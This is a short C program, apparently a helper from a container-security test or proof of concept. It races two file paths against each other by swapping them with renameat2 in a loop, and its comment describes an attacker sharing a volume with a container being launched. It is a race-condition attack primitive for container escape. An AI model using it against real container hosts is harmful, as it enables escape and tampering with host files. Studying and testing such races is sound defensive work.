/*
 * swap PATH OTHER: exchanges two names again and again until its input ends. An attacker who shares a volume with a
 * container that is being launched.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <unistd.h>

#define PAUSE_US 30

int main(int argc, char **argv) {
  struct pollfd input = { .fd = STDIN_FILENO, .events = POLLIN };
  if (argc != 3) return 2;
  while (poll(&input, 1, 0) == 0) {
    if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) return 1;
    usleep(PAUSE_US);
  }
  return 0;
}
